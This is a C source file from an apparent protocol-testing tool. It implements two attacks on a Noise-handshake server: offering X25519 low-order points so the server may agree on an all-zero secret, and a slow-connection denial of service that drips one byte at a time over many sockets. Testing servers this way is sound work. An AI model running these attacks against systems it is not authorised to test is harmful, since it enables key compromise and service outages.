/* Attacks on the server itself, without a victim. */
#include "../crypto/noise_state.h"
#include "classic.h"
#include "enhanced.h"
#include "mitm_relay.h"

enum { STRIKE_MS = 10000 }; /* for one connection */

static void tell(const struct mitm *m, const char *attack, bool won, const char *text)
{
	if (m->ear.result != NULL) {
		m->ear.result(m->ear.arg, 0, attack, won, text);
	}
}

static void tell_said(
	const struct mitm *m, enum mitm_who who, const void *p, size_t n, const char *what)
{
	const struct mitm_event event = {.who = who, .p = p, .n = n, .what = what};

	if (m->ear.said != NULL) {
		m->ear.said(m->ear.arg, &event);
	}
}

/* --- low-order --- */

#define FF_10 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff
#define FF_30 FF_10, FF_10, FF_10

/* Points of order 1, 2, 4 and 8 (RFC 7748 6.1 warns of them): 0, 1, p - 1, p and p + 1 for
 * p = 2^255 - 19, the last two not reduced, and the two of order 8 as Wycheproof has them. */
const uint8_t *mitm_low_order_point(size_t i)
{
	static const uint8_t points[][X25519_BYTES] = {
		{0},
		{1},
		{0xec, FF_30, 0x7f},
		{0xed, FF_30, 0x7f},
		{0xee, FF_30, 0x7f},
		{0xe0, 0xeb, 0x7a, 0x7c, 0x3b, 0x41, 0xb8, 0xae, 0x16, 0x56, 0xe3, 0xfa, 0xf1, 0x9f,
			0xc4, 0x6a, 0xda, 0x09, 0x8d, 0xeb, 0x9c, 0x32, 0xb1, 0xfd, 0x86, 0x62,
			0x05, 0x16, 0x5f, 0x49, 0xb8, 0x00},
		{0x5f, 0x9c, 0x95, 0xbc, 0xa3, 0x50, 0x8c, 0x24, 0xb1, 0xd0, 0xb1, 0x55, 0x9c, 0x83,
			0xef, 0x5b, 0x04, 0x44, 0x5c, 0xc4, 0x58, 0x1c, 0x8e, 0x86, 0xd8, 0x22,
			0x4e, 0xdd, 0xd0, 0x9f, 0x11, 0x57},
	};

	return i < sizeof points / sizeof points[0] ? points[i] : NULL;
}

/* What the server would agree on if it took the point: a secret of zeros. */
static void mix_zeros(struct noise *n)
{
	static const uint8_t zeros[X25519_BYTES];

	noise_mix_key(n, zeros);
}

static void put_length(uint8_t *p, size_t n)
{
	p[0] = (uint8_t)(n >> 8);
	p[1] = (uint8_t)n;
}

/* Say a message, and hear the answer, of which a message 2 is the longest; *got: its bytes. */
static int ask(const struct mitm *m, struct conn *c, const void *p, size_t n, const char *what,
	uint8_t answer[static ENHANCED_LENGTH + ENHANCED_HELLO], size_t *got, struct err *e)
{
	*got = 0;
	tell_said(m, MITM_AC, p, n, what);
	if (conn_write(c, p, n, e) != 0) {
		return 0; /* it has closed before: that is an answer, too */
	}
	(void)conn_read_exact(c, answer, ENHANCED_LENGTH + ENHANCED_HELLO, got, e);
	if (*got > 0) {
		tell_said(m, MITM_S, answer, *got, "an answer: message 2, or noise in its place");
	}
	return 0;
}

/* Message 1 with such a point, and the proof behind it that a secret of zeros makes; without the
 * server's public key it can only be noise. */
static int write_first(const struct mitm *m, struct noise *n, const struct x25519_pair *pair,
	bool low, uint8_t out[static ENHANCED_HELLO], struct err *e)
{
	const uint8_t *key = m->server_key == NULL ? pair->public : m->server_key;
	const struct noise_setup setup = {.pattern = ENHANCED_PATTERN,
		.initiator = true,
		.prologue = ENHANCED_PREFACE,
		.prologue_n = ENHANCED_PREFACE_BYTES,
		.s = pair,
		.remote_static = key,
		.e = pair};
	size_t len = 0;

	if (noise_begin(n, &setup, e) != 0) {
		return -1;
	}
	if (!low) {
		return noise_write(n, NULL, 0, out, ENHANCED_HELLO, &len, e);
	}
	memcpy(out, pair->public, X25519_BYTES);
	noise_mix_hash(n, pair->public, X25519_BYTES);
	mix_zeros(n);
	return noise_encrypt_and_hash(n, out + X25519_BYTES, &len, e);
}

static int say_first(const struct mitm *m, struct conn *c, struct noise *n,
	const struct x25519_pair *pair, bool low,
	uint8_t answer[static ENHANCED_LENGTH + ENHANCED_HELLO], size_t *got, struct err *e)
{
	uint8_t bytes[ENHANCED_PREFACE_BYTES + ENHANCED_LENGTH + ENHANCED_HELLO];

	memcpy(bytes, ENHANCED_PREFACE, ENHANCED_PREFACE_BYTES);
	put_length(bytes + ENHANCED_PREFACE_BYTES, ENHANCED_HELLO);
	return write_first(m, n, pair, low, bytes + ENHANCED_PREFACE_BYTES + ENHANCED_LENGTH, e) ==
			       0
		       ? ask(m, c, bytes, sizeof bytes,
				 low ? "message 1 with a point of low order"
				     : "an honest message 1",
				 answer, got, e)
		       : -1;
}

/* Offer the point as the ephemeral key, in message 1. The server has taken it if its message 2
 * opens with zeros. 0, or -1. */
static int offer_ephemeral(const struct mitm *m, const uint8_t *point, bool *won, struct err *e)
{
	uint8_t answer[ENHANCED_LENGTH + ENHANCED_HELLO];
	uint8_t *e_server = answer + ENHANCED_LENGTH, *tag = e_server + X25519_BYTES;
	struct x25519_pair pair = {.private = {1}};
	size_t got, len = NOISE_TAG;
	struct noise n;
	struct conn c;
	struct err ignored;
	int rc;

	memcpy(pair.public, point, X25519_BYTES);
	if (conn_dial(&c, m->host, m->port, e) != 0) {
		return -1;
	}
	c.stop_fd = m->stop_fd;
	conn_deadline(&c, STRIKE_MS);
	rc = say_first(m, &c, &n, &pair, true, answer, &got, e);
	if (rc == 0 && got == sizeof answer) {
		noise_mix_hash(&n, e_server, X25519_BYTES);
		mix_zeros(&n);
		*won = *won || noise_decrypt_and_hash(&n, tag, &len, &ignored) == 0;
	}
	conn_close(&c);
	return rc;
}

/* Offer it as the static key, in message 3 behind an honest beginning. The server has taken it if
 * it answers. 0, or -1. */
static int offer_static(const struct mitm *m, const uint8_t *point, bool *won, struct err *e)
{
	enum { THIRD = ENHANCED_THIRD + ENHANCED_LOGIN_PAD, KEY = X25519_BYTES + NOISE_TAG };
	uint8_t answer[ENHANCED_LENGTH + ENHANCED_HELLO], bytes[ENHANCED_LENGTH + THIRD] = {0};
	uint8_t *key = bytes + ENHANCED_LENGTH, *login = key + KEY;
	size_t got, n_key = X25519_BYTES, n_login = ENHANCED_LOGIN_PAD, len;
	struct x25519_pair pair;
	struct noise n;
	struct conn c;
	int rc;

	if (x25519_generate(&pair, e) != 0 || conn_dial(&c, m->host, m->port, e) != 0) {
		return -1;
	}
	c.stop_fd = m->stop_fd;
	conn_deadline(&c, STRIKE_MS);
	rc = say_first(m, &c, &n, &pair, false, answer, &got, e);
	if (rc == 0 &&
		(got != sizeof answer || noise_read(&n, answer + ENHANCED_LENGTH, ENHANCED_HELLO,
						 answer + ENHANCED_LENGTH, &len, e) != 0)) {
		rc = err_set(e, EX_SOFTWARE, "the server does not answer an honest message 1");
	}
	if (rc == 0) {
		put_length(bytes, THIRD);
		memcpy(key, point, X25519_BYTES);
		memset(login, ' ', ENHANCED_LOGIN_PAD);
		rc = noise_encrypt_and_hash(&n, key, &n_key, e);
		mix_zeros(&n);
		rc = rc == 0 ? noise_encrypt_and_hash(&n, login, &n_login, e) : rc;
	}
	if (rc == 0) {
		rc = ask(m, &c, bytes, sizeof bytes, "message 3 with a point of low order", answer,
			&got, e);
		*won = *won || got > 0;
	}
	conn_close(&c);
	wipe(&pair, sizeof pair);
	wipe(&n, sizeof n);
	return rc;
}

int mitm_low_order_strike(const struct mitm *m, struct err *e)
{
	const uint8_t *point;
	bool known = m->server_key != NULL, won = false;

	for (size_t i = 0; (point = mitm_low_order_point(i)) != NULL; i++) {
		if (offer_ephemeral(m, point, &won, e) != 0 ||
			(known && offer_static(m, point, &won, e) != 0)) {
			return -1;
		}
	}
	tell(m, "low-order", won,
		won     ? "the server went on, with a secret of zeros"
		: known ? "the server closed on each of the points, in message 1 and in message 3"
			: "the server closed; but without its public key no proof could be made");
	return 0;
}

/* --- slow --- */

struct drip {
	struct conn conn;
	unsigned said; /* bytes of a login that never ends */
};

/* The next byte of each connection; what the server has closed is called again. */
static unsigned drip(const struct mitm *m, struct drip *drips, unsigned n)
{
	static const uint8_t byte;
	struct err ignored;
	unsigned alive = 0;

	for (unsigned i = 0; i < n && !mitm_is_stopping(m, 0); i++) {
		struct drip *d = &drips[i];
		const uint8_t *say = &byte;
		if (d->conn.fd < 0 && conn_dial(&d->conn, m->host, m->port, &ignored) == 0) {
			d->said = 0;
		}
		if (m->enhanced && d->said < ENHANCED_PREFACE_BYTES) {
			say = (const uint8_t *)ENHANCED_PREFACE + d->said;
		}
		if (d->conn.fd >= 0 && conn_write(&d->conn, say, 1, &ignored) != 0) {
			conn_close(&d->conn);
		}
		d->said++;
		alive += d->conn.fd >= 0 ? 1 : 0;
	}
	return alive;
}

int mitm_slow(const struct mitm *m, struct err *e)
{
	unsigned n = m->sockets == 0 ? MITM_SOCKETS : m->sockets, alive = 0;
	struct drip *drips = calloc(n, sizeof *drips);
	char text[100];

	if (drips == NULL) {
		return err_set(e, EX_TEMPFAIL, "out of memory");
	}
	for (unsigned i = 0; i < n; i++) {
		drips[i].conn.fd = -1;
	}
	for (unsigned s = 0; m->seconds == 0 || s < m->seconds; s++) {
		alive = drip(m, drips, n);
		(void)snprintf(text, sizeof text, "%u of %u slow connections are open", alive, n);
		tell_said(m, MITM_AC, "", 0, text);
		if (mitm_is_stopping(m, 1000)) {
			break;
		}
	}
	(void)snprintf(text, sizeof text, "%u of %u slow connections were left", alive, n);
	tell(m, "slow", false, text);
	for (unsigned i = 0; i < n; i++) {
		conn_close(&drips[i].conn);
	}
	free(drips);
	return 0;
}
